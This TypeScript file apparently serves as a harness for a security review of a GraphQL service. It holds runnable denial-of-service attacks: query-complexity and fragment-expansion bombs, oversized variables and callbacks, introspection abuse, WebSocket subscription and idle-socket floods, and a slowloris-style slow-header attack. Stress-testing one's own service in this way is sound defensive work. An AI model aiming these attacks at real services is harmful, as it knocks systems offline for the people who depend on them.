import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { request } from 'undici';
import { WebSocket } from 'ws';

/** What an attacker knows: the address, and a project of its own with 500 tasks. */
export interface Target {
  readonly url: string;
  readonly authorization: string;
  readonly projectId: string;
  /** A cursor from before the tasks were made. */
  readonly cursor: string;
}

/** One attacking connection. It attacks until the signal is aborted, and returns what it counted. */
export type Attack = (target: Target, signal: AbortSignal) => Promise<Record<string, number>>;

const headersOf = ({ authorization }: Target) => ({ 'content-type': 'application/json', authorization });

/** Posts bodies one after another, and counts the statuses of the answers. */
function posts(body: (target: Target, n: number) => string, path = '/graphql'): Attack {
  return async (target, signal) => {
    const statuses: Record<string, number> = {};
    for (let n = 0; !signal.aborted; n++) {
      try {
        const answer = await request(`${target.url}${path}`, {
          method: 'POST',
          headers: headersOf(target),
          body: body(target, n),
          signal,
        });
        await answer.body.dump({ limit: 1e9 });
        statuses[answer.statusCode] = (statuses[answer.statusCode] ?? 0) + 1;
      } catch {
        if (!signal.aborted) statuses['failed'] = (statuses['failed'] ?? 0) + 1;
      }
    }
    return statuses;
  };
}

const query = (document: (target: Target, n: number) => string): Attack =>
  posts((target, n) => JSON.stringify({ query: document(target, n) }));

const repeat = (times: number, part: (n: number) => string) =>
  Array.from({ length: times }, (_, n) => part(n)).join(' ');

/** Opens sockets with graphql-transport-ws, calls `onOpen` with each, and opens another when one closes. */
function sockets(count: number, onOpen: (socket: WebSocket, target: Target) => void): Attack {
  return async (target, signal) => {
    let opened = 0;
    const open = () => {
      if (signal.aborted) return;
      opened += 1;
      const socket = new WebSocket(`${target.url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
      socket.on('open', () => onOpen(socket, target));
      socket.on('error', () => undefined);
      socket.on('close', () => setTimeout(open, 100));
      signal.addEventListener('abort', () => socket.terminate(), { once: true });
    };
    for (let n = 0; n < count; n++) open();
    await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
    return { opened };
  };
}

const send = (socket: WebSocket, message: object) => socket.send(JSON.stringify(message));

/** Initialises a socket and subscribes so many times. */
function subscribe(socket: WebSocket, target: Target, times: number, document: (n: number) => string) {
  send(socket, { type: 'connection_init', payload: { authorization: target.authorization } });
  socket.on('message', (data) => {
    const message = JSON.parse(String(data)) as { type: string };
    if (message.type === 'ping') send(socket, { type: 'pong' });
    if (message.type !== 'connection_ack') return;
    for (let n = 0; n < times; n++) {
      send(socket, { id: `${n}`, type: 'subscribe', payload: { query: document(n) } });
    }
  });
}

const EVENT_FIELDS = 'cursor ... on TaskChanged { task { title project { name } activeRun { state } } }';
const replay =
  ({ projectId, cursor }: Target) =>
  () =>
    `subscription { boardEvents(projectId: "${projectId}", after: "${cursor}") { ${EVENT_FIELDS} } }`;

const PAGE = 'nodes { id }';

/** The attacks of the first review, each with one connection or one socket of one person. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'aliased lists of 500 tasks': query(
    ({ projectId }) =>
      `{ project(id: "${projectId}") { columns { ${repeat(5, (n) => `p${n}: tasks(first: ${100 - n}) { nodes { ...T } }`)} } } } fragment T on Task { ${repeat(9, (n) => `c${n}: comments(first: 1) { ${PAGE} }`)} history(first: 1) { ${PAGE} } subtasks(first: 1) { ${PAGE} } runs(first: 1) { ${PAGE} } }`,
  ),
  'four plain lists': query(
    ({ projectId }) =>
      `{ project(id: "${projectId}") { columns { tasks(first: 100) { nodes { comments { ${PAGE} } history { ${PAGE} } subtasks { ${PAGE} } runs { ${PAGE} } } } } } }`,
  ),
  'the same field 330 times': query(
    ({ projectId }, n) =>
      `query Q${n} { project(id: "${projectId}") { ${repeat(330, () => 'name key columns { name }')} } }`,
  ),
  'fragments of fragments': query(
    ({ projectId }, n) =>
      `query Q${n} { project(id: "${projectId}") { ...F0 } } ${repeat(60, (i) => `fragment F${i} on Project { name ...F${i + 1} ...F${i + 1} key }`)} fragment F60 on Project { id }`,
  ),
  'documents that nobody asked before': query(
    ({ projectId }, n) =>
      `query Q${randomBytes(4).toString('hex')} { project(id: "${projectId}") { ${repeat(8, (i) => `a${n}_${i}: channels(first: ${i + 1}) { nodes { name messages(first: 2) { nodes { body author { __typename } } } } }`)} columns { tasks(first: 3) { nodes { title assignee { displayName } delegate { name } project { name } } } } } }`,
  ),
  'variables with 90,000 keys': posts(() => {
    const variables = Object.fromEntries(Array.from({ length: 90_000 }, (_, n) => [`k${n}`, 1]));
    return JSON.stringify({ query: '{ viewer { id } }', variables });
  }),
  'introspection with aliases': query(
    (_target, n) =>
      `query I${n} { ${repeat(15, (i) => `s${i}: __schema { types { name fields { name type { name } } } }`)} }`,
  ),
  'subscriptions that nobody asked before': sockets(1, (socket, target) =>
    subscribe(
      socket,
      target,
      50,
      (n) =>
        `subscription S${randomBytes(4).toString('hex')} { boardEvents(projectId: "${target.projectId}") { cursor ... on TaskChanged { task { ${repeat(10, (i) => `a${n}_${i}: comments(first: ${i + 1}) { nodes { id body } }`)} project { name } } } } }`,
    ),
  ),
  '50 replays on one socket': sockets(1, (socket, target) => subscribe(socket, target, 50, replay(target))),
  'sockets that never begin': sockets(100, () => undefined),
  'sockets that read nothing': sockets(10, (socket, target) => {
    subscribe(socket, target, 50, replay(target));
    setTimeout(() => socket.pause(), 200);
  }),
  'unsigned callbacks of 2 MB': posts(() => `{"text":"${'x'.repeat(1_900_000)}"}`, '/agents/callback'),
  'headers without an end': async ({ url }, signal) => {
    const { hostname, port } = new URL(url);
    const open = () => {
      const socket = connect(Number(port), hostname, () =>
        socket.write('POST /graphql HTTP/1.1\r\nHost: a\r\nX: '),
      );
      socket.on('error', () => undefined);
      socket.on('close', () => !signal.aborted && setTimeout(open, 100));
      const drip = setInterval(() => socket.write('x'), 500);
      socket.on('close', () => clearInterval(drip));
      signal.addEventListener('abort', () => socket.destroy(), { once: true });
    };
    for (let n = 0; n < 100; n++) open();
    await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
    return {};
  },
};
